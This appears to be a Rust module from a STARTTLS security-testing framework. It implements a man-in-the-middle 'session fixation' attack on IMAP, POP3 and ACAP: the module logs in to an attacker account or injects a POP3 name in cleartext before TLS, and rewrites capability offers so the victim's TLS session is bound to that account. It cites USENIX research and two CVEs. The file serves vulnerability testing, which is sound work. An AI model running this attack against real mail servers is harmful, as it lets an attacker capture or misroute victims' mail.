//! Logs in, or names somebody, and then hands the connection to the victim.

use super::kit::{Probe, Stack, login};
use super::led::{HANDSHAKE, led};
use super::{Attack, Deciding, Group, Message, Relay, Tamper, group, tamper};
use crate::base::{ATTACKER, Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::proto::Dialect;

switch!(
    Middle NAMED,
    "named",
    Setting,
    &["login", "name"],
    &[],
    "Said before TLS",
    "A whole login, or, in POP3, only a name."
);

static SWITCHES: &[&Switch] = &[&NAMED, &HANDSHAKE];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["server.logindisabled=off"],
        right: &[],
        wrong: &["server.starttls-after-login=on"],
    },
    Deciding {
        protocols: &[Protocol::Pop3, Protocol::Acap],
        given: &["server.clear-text=accepted"],
        right: &[],
        wrong: &["server.starttls-after-login=on"],
    },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["middle.named=name"],
        right: &[],
        wrong: &["server.keeps-name=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["client.port=tls-first", "server.logindisabled=off", "middle.handshake-of=the-tls-port"],
        right: &[],
        wrong: &["server.starttls-after-login=on"],
    },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["client.port=tls-first", "server.clear-text=accepted", "middle.handshake-of=the-tls-port"],
        right: &[],
        wrong: &["server.starttls-after-login=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "session-fixation",
    title: "Fix the session",
    about: "Logs in to its own account in the clear, or gives a name, before the client hears the greeting; then it lets the client ask for TLS.",
    group: Group::Injection,
    known: &[group::USENIX, "CVE-2021-37845 Citadel", "CVE-2021-37846 IMail"],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let (user, password) = ATTACKER;
        let mut messages = login(dialect.protocol, "q1", user, password);
        if switches.get(&NAMED) == "name" && dialect.protocol == Protocol::Pop3 {
            return name_first(dialect, messages.swap_remove(0));
        }
        if switches.get(&HANDSHAKE) == "the-tls-port" && dialect.protocol != Protocol::Acap {
            // A server that keeps its buffer answers this where the client waits for a greeting.
            let noop: &[u8] = if dialect.protocol == Protocol::Pop3 { b"NOOP\r\n" } else { b"q9 NOOP\r\n" };
            return led(dialect, messages, noop);
        }
        let offers = tamper(move |message, moves| match offering(dialect, &message) {
            Some(octets) => moves.replace(octets),
            None => moves.pass(),
        });
        Box::new(Stack(Relay::new(vec![offers, Probe::boxed(messages)])))
    },
    success: &success::FIXED,
    deciding: DECIDING,
};

/// Somebody who is logged in is not offered TLS; the victim has to be.
fn offering(dialect: &Dialect, message: &Message<'_>) -> Option<Vec<u8>> {
    let items = (dialect.items)(message.octets).filter(|_| message.from == Side::Server)?;
    let word = dialect.starttls_words.first()?;
    let offered = items.iter().any(|item| item == word);
    if offered { None } else { (dialect.with_items)(message.octets, &[word]) }
}

/// Gives a name right in front of the victim's request for TLS, and keeps the answer to it to itself.
fn name_first(dialect: &'static Dialect, name: Vec<u8>) -> Box<dyn Tamper> {
    let mut named = false;
    tamper(move |message, moves| {
        if message.from == Side::Client && dialect.starttls_tag(message.octets).is_some() {
            named = true;
            moves.add(name.clone());
            moves.pass();
        } else if message.from == Side::Client || !std::mem::take(&mut named) {
            moves.pass();
        }
    })
}
